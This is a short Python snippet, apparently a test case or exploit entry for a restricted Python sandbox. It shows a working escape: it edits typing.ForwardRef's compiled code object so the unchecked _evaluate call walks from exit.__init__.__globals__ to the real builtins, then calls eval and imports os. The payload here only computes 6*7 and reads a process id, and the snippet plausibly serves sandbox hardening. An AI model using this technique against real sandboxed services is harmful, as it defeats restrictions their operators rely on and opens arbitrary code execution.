# technique: typing.ForwardRef's __forward_code__ is compiled from checked text, then edited with code.replace(co_names=...) into x.__init__.__globals__ and put back; _evaluate runs the edited code object with no check -> _sitebuiltins' globals -> real builtins
# configs: default, common
# With nothing allowed `import typing` is refused.
import typing
u = '_' * 2
ref = typing.ForwardRef('x.a.b')
ref.__forward_code__ = ref.__forward_code__.replace(co_names=('x', u + 'init' + u, u + 'globals' + u))
g = ref._evaluate({'x': exit}, None, recursive_guard=frozenset())
b = g[u + 'builtins' + u]
return [{'json': {'escaped': [b['eval']('6 * 7'), b[u + 'import' + u]('os').getpid()]}}]
